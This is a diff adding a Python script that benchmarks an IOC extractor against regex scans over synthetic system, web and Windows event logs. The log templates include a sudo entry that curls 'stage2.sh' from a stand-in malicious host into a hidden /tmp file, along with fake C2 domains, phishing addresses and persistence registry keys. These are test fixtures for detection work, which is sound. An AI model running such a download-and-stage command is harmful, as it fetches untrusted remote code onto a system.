@@ -0,0 +1,124 @@
+#!/usr/bin/env python3
+"""
+Throughput benchmark for the IOC extractor.
+
+Compares the token classifier used by IOCExtractor with scanning the raw
+text with regexes (one combined alternation, and one ``finditer`` pass per
+indicator type) over synthetic syslog, web and Windows event data. MB/s for
+the extractor includes validation and deduplication.
+
+Usage:
+    python benchmark_ioc_extractor.py --lines 200000 --ioc-rate 0.1
+"""
+
+import argparse
+import os
+import random
+import re
+import time
+
+os.environ.setdefault("GEMINI_API_KEY", "benchmark")
+
+from services.ioc_extractor import IOCExtractor
+
+BENIGN = [
+    "{ts} web01 CRON[{pid}]: pam_unix(cron:session): session opened for user root by (uid=0)",
+    "{ts} web01 systemd[1]: Started Session {pid} of user deploy.",
+    "{ts} web01 nginx[{pid}]: 10.0.{a}.{b} - - \"GET /api/health HTTP/1.1\" 200 17",
+    "{ts} web01 kernel: [{pid}.{a}] eth0: link up, 1000Mbps, full-duplex",
+    "{ts} web01 dhclient[{pid}]: bound to 10.0.{a}.{b} -- renewal in 1800 seconds.",
+]
+WITH_IOCS = [
+    "{ts} web01 sshd[{pid}]: Failed password for invalid user admin from 203.0.113.{b} port {port} ssh2",
+    "{ts} web01 sudo: www-data : COMMAND=/usr/bin/curl -s http://cdn{a}.malicious-example.ru/stage2.sh -o /tmp/.x{pid}",
+    "{ts} dc01 Sysmon: Image=C:\\Users\\Public\\svch0st.exe Hashes=SHA256={sha256} User=corp\\bob",
+    "{ts} dc01 Sysmon: TargetObject=HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater{a}",
+    "{ts} mail01 postfix[{pid}]: reject: RCPT from unknown[2001:db8::{a:x}]: <attacker{b}@phish-example.com>",
+    "{ts} fw01 dns[{pid}]: query c2-{a}.evil-example.net A from 10.1.{a}.{b} md5 {md5}",
+]
+
+_OCTET = r"(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)"
+_LABEL = r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
+
+# Unanchored candidate patterns for the raw-text regex baselines, containers first
+SCAN_PATTERNS = {
+    "url": r"\b(?:https?|ftp)://[^\s\"'<>`]+",
+    "email": rf"\b[A-Za-z0-9._%+-]+@(?:{_LABEL}\.)+[A-Za-z]{{2,63}}\b",
+    "registry": r"\b(?:HKEY_[A-Z_]+|HK(?:LM|CU|CR|U|CC))\\[^\s\"'<>|]+",
+    "winpath": r"\b[A-Za-z]:\\(?:[^\\/:*?\"<>|\s]+\\)*[^\\/:*?\"<>|\s]*",
+    "unixpath": r"(?<![\w/.:~-])(?:~|\.{1,2})?/(?:[\w.@+-]+/)+[\w.@+-]+",
+    "hash": r"\b(?:[0-9A-Fa-f]{64}|[0-9A-Fa-f]{40}|[0-9A-Fa-f]{32})\b",
+    "ipv4": rf"(?<![\d.]){_OCTET}(?:\.{_OCTET}){{3}}(?!\.?\d)",
+    "ipv6": r"(?<![\w:.])(?:[0-9A-Fa-f]{0,4}:){2,7}[0-9A-Fa-f]{1,4}(?![\w:.])",
+    "domain": rf"\b(?:{_LABEL}\.)+[A-Za-z]{{2,63}}\b",
+}
+SEPARATE_PATTERNS = {name: re.compile(pattern) for name, pattern in SCAN_PATTERNS.items()}
+COMBINED_PATTERN = re.compile("|".join(f"(?P<{name}>{pattern})" for name, pattern in SCAN_PATTERNS.items()))
+
+
+def generate_logs(lines: int, ioc_rate: float, seed: int) -> str:
+    rng = random.Random(seed)
+    output = []
+    for i in range(lines):
+        template = rng.choice(WITH_IOCS) if rng.random() < ioc_rate else rng.choice(BENIGN)
+        output.append(template.format(
+            ts=f"Oct 10 10:{i // 60 % 60:02d}:{i % 60:02d}",
+            pid=rng.randint(1000, 99999),
+            a=rng.randint(0, 255),
+            b=rng.randint(1, 254),
+            port=rng.randint(1024, 65535),
+            md5=f"{rng.getrandbits(128):032x}",
+            sha256=f"{rng.getrandbits(256):064x}"
+        ))
+    return "\n".join(output)
+
+
+def separate_passes(logs: str) -> int:
+    return sum(sum(1 for _ in pattern.finditer(logs)) for pattern in SEPARATE_PATTERNS.values())
+
+
+def full_extraction(logs: str, block_chars: int) -> IOCExtractor:
+    extractor = IOCExtractor()
+    start = 0
+    while start < len(logs):
+        end = logs.find("\n", start + block_chars)
+        end = len(logs) if end < 0 else end + 1
+        extractor.feed(logs[start:end])
+        start = end
+    return extractor
+
+
+def run(label: str, func, logs: str, repeat: int) -> float:
+    best = float("inf")
+    for _ in range(repeat):
+        started = time.perf_counter()
+        func()
+        best = min(best, time.perf_counter() - started)
+    mb = len(logs) / 1e6
+    print(f"{label:<32} {best * 1000:9.1f} ms  {mb / best:8.1f} MB/s  {logs.count(chr(10)) / best / 1e6:6.2f} M lines/s")
+    return best
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Benchmark the IOC extractor")
+    parser.add_argument("--lines", type=int, default=200000)
+    parser.add_argument("--ioc-rate", type=float, default=0.1)
+    parser.add_argument("--block-chars", type=int, default=1024 * 1024, help="Streaming block size for feed()")
+    parser.add_argument("--repeat", type=int, default=5)
+    parser.add_argument("--seed", type=int, default=0)
+    args = parser.parse_args()
+
+    logs = generate_logs(args.lines, args.ioc_rate, args.seed)
+    print(f"{args.lines} lines, {len(logs) / 1e6:.1f} MB, {len(SCAN_PATTERNS)} indicator patterns\n")
+
+    run("regex scan, one per type", lambda: separate_passes(logs), logs, args.repeat)
+    run("regex scan, combined", lambda: sum(1 for _ in COMBINED_PATTERN.finditer(logs)), logs, args.repeat)
+    run("IOCExtractor (streamed blocks)", lambda: full_extraction(logs, args.block_chars), logs, args.repeat)
+
+    extractor = full_extraction(logs, args.block_chars)
+    counts = ", ".join(f"{ioc_type}={len(values)}" for ioc_type, values in extractor.results().items())
+    print(f"\n{counts}\n{extractor.stats()}")
+
+
+if __name__ == "__main__":
+    main()